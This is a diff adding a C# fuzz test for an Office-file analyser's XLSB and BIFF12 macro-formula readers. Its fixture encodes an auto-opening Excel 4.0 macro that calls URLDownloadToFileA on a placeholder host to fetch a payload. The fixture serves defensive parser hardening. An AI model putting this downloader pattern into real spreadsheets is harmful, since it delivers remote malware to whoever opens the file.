@@ -55,6 +55,34 @@ public sealed class OfficeParserFuzzTests
     }
 
     [Fact]
+    public async Task The_XLSB_record_and_BIFF12_formula_readers_survive_mutated_parts()
+    {
+        byte[] call = [.. Xlm.XlsbTestFiles.Str("urlmon"), .. Xlm.XlsbTestFiles.Str("URLDownloadToFileA"), .. Xlm.XlsbTestFiles.Integer(104), .. Xlm.XlsbTestFiles.Func(111),
+            .. Xlm.XlsbTestFiles.Str("ttp://x.example.org/p"), .. Xlm.XlsbTestFiles.Concat, 0x19, 0x04, 2, 0, 0, 0, 0, 0, 0, .. Xlm.XlsbTestFiles.FuncVar(3, 150)];
+        var workbook = Xlm.XlsbTestFiles.Workbook(2, "_xlnm.Auto_Open", "Payload");
+        var sheet = Xlm.XlsbTestFiles.MacroSheet(Xlm.XlsbTestFiles.StringFormula(0, call), Xlm.XlsbTestFiles.NumberFormula(1, [0x23, 2, 0, 0, 0, .. call, .. Xlm.XlsbTestFiles.FuncVar(2, 255)]), Xlm.XlsbTestFiles.SharedFormula(4, call));
+        var random = new Random(12012);
+        for (var i = 0; i < Cases; i++)
+        {
+            var info = XlsbWorkbook.Read(Mutate(workbook, random));
+            Assert.True(info.Sheets.Count <= XlsbWorkbook.MaxSheets);
+            var cells = XlsbMacroSheet.Read(Mutate(sheet, random), info.Names, 100, []);
+            Assert.True(cells.Count <= 100);
+            Assert.All(cells, c => Assert.True((c.Formula.Text?.Length ?? 0) <= 16 * 1024));
+            var tokens = new byte[random.Next(0, 96)];
+            random.NextBytes(tokens);
+            XlsbFormula.Read(i % 2 == 0 ? tokens : Mutate(call, random), ["Payload"]);
+        }
+
+        for (var i = 0; i < Cases / 30; i++)
+        {
+            var package = Xlm.XlsbTestFiles.Package(Mutate(workbook, random), Mutate(sheet, random));
+            var report = await TestEngine.Default.AnalyseAsync(package, "book.xlsb");
+            Assert.DoesNotContain(report.Nodes.SelectMany(n => n.Incomplete), r => r.Contains(" failed:", StringComparison.Ordinal));
+        }
+    }
+
+    [Fact]
     public void The_macro_classifier_and_field_readers_survive_random_text()
     {
         var source = File.ReadAllText(TestPaths.Corpus("strelka-fixtures", "test.vba"));
